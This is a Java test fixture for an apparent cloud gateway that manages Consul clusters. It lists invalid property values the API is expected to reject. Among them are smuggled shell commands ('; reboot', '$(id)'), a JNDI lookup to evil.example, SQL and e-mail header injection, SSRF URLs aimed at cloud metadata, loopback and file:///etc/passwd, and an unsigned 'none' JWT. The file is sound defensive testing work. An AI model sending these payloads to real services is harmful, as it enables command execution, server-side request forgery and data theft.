package io.proconsul.gateway.hostile;

import static io.proconsul.gateway.hostile.Hostile.CLUSTER;
import static io.proconsul.gateway.hostile.Hostile.put;

import java.util.List;

/** Wrong values in the right places: types, ranges, injections, look-alikes. */
final class HostileProperties {

    private static final String APPLICATION = "/subscriptions/" + Hostile.SUBSCRIPTION
            + "/resourceGroups/rg/providers/Microsoft.Solutions/applications/app";

    private HostileProperties() {}

    static List<Hostile> rows() {
        return List.of(
                only("no location", "'email':'a@b.c'").invalid("properties.location"),
                location("unknown region", "'mars'"),
                location("location is a number", "5"),
                location("location is an object", "{'name':'westus2'}"),
                location("location is empty", "''"),
                location("location is blank", "' '"),
                location("location with a path", "'westus2/../eastus'"),
                location("location in full-width letters", "'ｗestus2'"),
                wrong("consulNumServers", "two servers", "'2'"),
                wrong("consulNumServers", "seven servers", "'7'"),
                wrong("consulNumServers", "no servers", "'0'"),
                wrong("consulNumServers", "negative servers", "'-3'"),
                wrong("consulNumServers", "servers as words", "'three'"),
                wrong("consulNumServers", "padded servers", "'03'"),
                wrong("consulNumServers", "signed servers", "'+3'"),
                wrong("consulNumServers", "spaced servers", "'3 '"),
                wrong("consulNumServers", "servers in Arabic digits", "'٣'"),
                wrong("consulNumServers", "half a server", "1.5"),
                wrong("consulNumServers", "three servers in science", "3e0"),
                wrong("consulNumServers", "a list of servers", "[3]"),
                wrong("consulNumServers", "servers are true", "true"),
                wrong("consulNumServers", "overflowing servers", "4294967299"),
                wrong("consulClusterMode", "unknown mode", "'STAGING'"),
                wrong("consulClusterMode", "mode in lower case", "'production'"),
                wrong("consulClusterMode", "mode as an ordinal", "0"),
                wrong("consulClusterMode", "mode of another locale", "'PRODUCTİON'"),
                wrong("consulVnetCidr", "public network", "'8.8.8.0/24'"),
                wrong("consulVnetCidr", "shared address space", "'100.64.0.0/16'"),
                wrong("consulVnetCidr", "loopback", "'127.0.0.0/16'"),
                wrong("consulVnetCidr", "link-local", "'169.254.0.0/16'"),
                wrong("consulVnetCidr", "every address", "'0.0.0.0/0'"),
                wrong("consulVnetCidr", "network too small", "'10.0.0.0/29'"),
                wrong("consulVnetCidr", "network too large", "'10.0.0.0/8'"),
                wrong("consulVnetCidr", "half private", "'172.0.0.0/11'"),
                wrong("consulVnetCidr", "host bits", "'10.0.0.5/24'"),
                wrong("consulVnetCidr", "no prefix", "'10.0.0.0'"),
                wrong("consulVnetCidr", "negative prefix", "'10.0.0.0/-24'"),
                wrong("consulVnetCidr", "overlong prefix", "'10.0.0.0/240'"),
                wrong("consulVnetCidr", "netmask", "'10.0.0.0/255.255.255.0'"),
                wrong("consulVnetCidr", "two networks", "'10.0.0.0/24,10.0.1.0/24'"),
                wrong("consulVnetCidr", "a range", "'10.0.0-1.0/24'"),
                wrong("consulVnetCidr", "a wildcard", "'10.0.*.0/24'"),
                wrong("consulVnetCidr", "IPv6", "'fd00::/16'"),
                wrong("consulVnetCidr", "IPv4 within IPv6", "'::ffff:10.0.0.0/120'"),
                wrong("consulVnetCidr", "octal address", "'010.0.0.0/24'"),
                wrong("consulVnetCidr", "hexadecimal address", "'0xa.0.0.0/24'"),
                wrong("consulVnetCidr", "address as one number", "'167772160/24'"),
                wrong("consulVnetCidr", "short address", "'10.1/16'"),
                wrong("consulVnetCidr", "a template for an address", "'{{ GetAllInterfaces }}'"),
                wrong("consulVnetCidr", "a command for an address", "'10.0.0.0/24; reboot'"),
                wrong("consulVnetCidr", "a host name for an address", "'localhost/24'"),
                wrong("consulDatacenter", "short datacenter", "'dc'"),
                wrong("consulDatacenter", "datacenter with a dot", "'dc.one'"),
                wrong("consulDatacenter", "datacenter with a template", "'dc{{x}}'"),
                wrong("consulDatacenter", "datacenter with a line break", "'dc1\\nx'"),
                wrong("consulDatacenter", "datacenter with a NUL", "'dc1\\u0000x'"),
                wrong("consulDatacenter", "datacenter with SQL", "'dc1\\u0027; DROP TABLE x--'"),
                wrong("consulDatacenter", "datacenter with HCL", "'dc1\\u0022 }'"),
                wrong("consulDatacenter", "datacenter with a path", "'../../dc1'"),
                wrong("consulDatacenter", "datacenter too long", "'" + "d".repeat(37) + "'"),
                wrong("consulDatacenter", "datacenter with a homoglyph", "'dс1'"),
                wrong("consulDatacenter", "datacenter with an override", "'dc\\u202e1'"),
                wrong("consulInitialVersion", "version without v", "'1.21.4'"),
                wrong("consulInitialVersion", "version too old", "'v1.9.5'"),
                wrong("consulInitialVersion", "version with a path", "'v1.21.4/../x'"),
                wrong("consulInitialVersion", "version is a range", "'~> 1.21'"),
                wrong("consulInitialVersion", "version is a number", "1.21"),
                wrong("consulInitialVersion", "version for a shell", "'v1.21.4$(id)'"),
                wrong("consulConnect", "switch that is no switch", "'yes'"),
                wrong("consulExternalEndpoint", "switch as a boolean", "true"),
                wrong("consulAutomaticUpgrades", "switch in upper case", "'ENABLED'"),
                wrong("consulSnapshotInterval", "interval of nothing", "'0d'"),
                wrong("consulSnapshotInterval", "interval in years", "'1y'"),
                wrong("consulSnapshotInterval", "interval backwards", "'-1d'"),
                wrong("consulSnapshotInterval", "interval of ISO 8601", "'P1D'"),
                wrong("consulSnapshotInterval", "interval without end", "'9999m'"),
                wrong("consulSnapshotInterval", "interval beyond a long", "'99999999999999999999h'"),
                wrong("consulSnapshotRetention", "retention below interval", "'1h'"),
                wrong("consulUpgradePolicy", "policy nobody has", "'YOLO'"),
                wrong("consulUpgradePolicy", "policy in lower case", "'point'"),
                wrong("consulUpgradePolicy", "policy of another locale", "'POİNT'"),
                wrong("consulUpgradePolicy", "policy as an ordinal", "1"),
                wrong("consulMaintenanceDays", "every day", "'*'"),
                wrong("consulMaintenanceDays", "a day twice", "'MON,MON'"),
                wrong("consulMaintenanceDays", "a day that is none", "'MON,,TUE'"),
                wrong("consulMaintenanceDays", "days for a shell", "'MON;reboot'"),
                wrong("consulMaintenanceDays", "days without end", "'" + "MON,".repeat(4000) + "TUE'"),
                wrong("consulMaintenanceDays", "days in a list", "['MON']"),
                wrong("consulMaintenanceStart", "hour of 25", "'25:00'"),
                wrong("consulMaintenanceStart", "time with a zone", "'02:00+14:00'"),
                wrong("consulMaintenanceStart", "time in Arabic digits", "'٠٢:٠٠'"),
                wrong("consulMaintenanceStart", "cron for a time", "'0 2 * * *'"),
                wrong("consulMaintenanceDuration", "window of nothing", "'0h'"),
                wrong("consulMaintenanceDuration", "window of a week", "'168h'"),
                wrong("consulMaintenanceDuration", "window of ISO 8601", "'PT4H'"),
                wrong("consulMaintenanceDuration", "window beyond a long", "'99999999999999999999h'"),
                with("policy against the switch", "'consulAutomaticUpgrades':'enabled','consulUpgradePolicy':'MANUAL'")
                        .invalid("properties.consulUpgradePolicy"),
                wrong("email", "no e-mail address", "'nobody'"),
                wrong("email", "header injection by e-mail", "'a@b.c\\r\\nBcc: x'"),
                wrong("email", "header injection in the name", "'a\\u2028b@c.d'"),
                wrong("email", "half a character in e-mail", "'a\\ud800@b.c'"),
                wrong("email", "markup in e-mail", "'<img src=x>@b.c'"),
                wrong("email", "two e-mail addresses", "'a@b.c,d@e.f'"),
                wrong("email", "e-mail too long", "'" + "a".repeat(65) + "@b.c'"),
                wrong("sourceChannel", "channel with markup", "'<script>'"),
                wrong("sourceChannel", "channel for a log", "'x\\n2026-01-01 ERROR'"),
                wrong("sourceChannel", "channel that looks up", "'${jndi:ldap://evil.example/x}'"),
                wrong("sourceChannel", "channel too long", "'" + "c".repeat(65) + "'"),
                wrong("managedAppId", "foreign application id", "'/subscriptions/x'"),
                wrong("managedAppId", "application id as a URL", "'https://evil.example/x'"),
                wrong("managedAppId", "application id to metadata", "'http://169.254.169.254/'"),
                wrong("managedAppId", "application id as a file", "'file:///etc/passwd'"),
                wrong("managedAppId", "application id that climbs", "'" + APPLICATION + "/../x'"),
                wrong("managedAppId", "application id with a query", "'" + APPLICATION + "?x=y'"),
                wrong("managedAppId", "application id with a host", "'//evil.example" + APPLICATION + "'"),
                wrong("federationToken", "federation token that is none", "'eyJ.x.y'"),
                wrong(
                        "federationToken",
                        "federation token nobody signed",
                        "'eyJhbGciOiJub25lIn0.eyJQcmltYXJ5Ijp7fX0.'"),
                wrong("federationToken", "federation token in a list", "['eyJ.x.y']"),
                notOffered("auditLoggingEnabled", "audit logging", "'TRUE'"),
                wrong("auditLoggingEnabled", "audit logging as a boolean", "true"),
                audited("to metadata", "http://169.254.169.254/metadata/instance"),
                audited("to loopback", "http://127.0.0.1:8500/v1/agent/self"),
                audited("to IPv6 loopback", "http://[::1]/"),
                audited("to an address in decimal", "http://2130706433/"),
                audited("to a file", "file:///etc/passwd"),
                audited("to gopher", "gopher://127.0.0.1:25/_MAIL"),
                audited("behind a name", "https://a.blob.core.windows.net@evil.example/c"),
                audited("behind a fragment", "https://evil.example#.blob.core.windows.net/c"),
                unknown("colour", "'red'"),
                unknown("Location", "'westus2'"),
                unknown("email ", "'a@b.c'"),
                unknown("", "'x'"),
                unknown("*", "'x'"),
                unknown("@class", "'java.net.URL'"),
                unknown("constructor", "{}"),
                unknown("__proto__", "{}"));
    }

    private static Hostile audited(String where, String url) {
        return notOffered("auditLogStorageContainerURL", "audit logs " + where, "'" + url + "'");
    }

    private static Hostile wrong(String property, String name, String value) {
        return with(property + ": " + name, "'" + property + "':" + value).invalid("properties." + property);
    }

    private static Hostile notOffered(String property, String name, String value) {
        return with(name, "'" + property + "':" + value).is(400, "NotSupported", "properties." + property);
    }

    private static Hostile unknown(String name, String value) {
        return with("unknown property " + name, "'" + name + "':" + value)
                .is(400, "UnknownField", "properties." + name);
    }

    private static Hostile location(String name, String value) {
        return only(name, "'location':" + value).invalid("properties.location");
    }

    private static Hostile only(String name, String properties) {
        return put(name, CLUSTER, "{'properties':{" + properties + "}}");
    }

    private static Hostile with(String name, String property) {
        return only(name, "'location':'westus2'," + property);
    }
}
